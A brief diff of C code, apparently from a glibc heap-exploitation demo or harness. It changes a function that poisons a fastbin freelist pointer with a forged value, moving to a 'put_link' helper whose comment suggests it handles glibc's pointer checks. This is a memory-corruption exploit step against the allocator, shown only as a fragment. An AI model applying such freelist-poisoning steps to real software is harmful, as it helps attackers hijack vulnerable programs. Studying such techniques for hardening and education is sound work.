@@ -95,7 +95,8 @@ static uintptr_t fastbin(const struct scene *s)
 {
 	if (__GLIBC_PREREQ(2, 43))
 		wrong("this glibc has no fastbins");
-	put((uintptr_t)s->fast, 0x4141414141414141);
+	/* wherever it lies, so that glibc sees it before it goes there */
+	put_link((uintptr_t)s->fast, 0x4141414141414148);
 	return CHUNK(s->fast);
 }
 
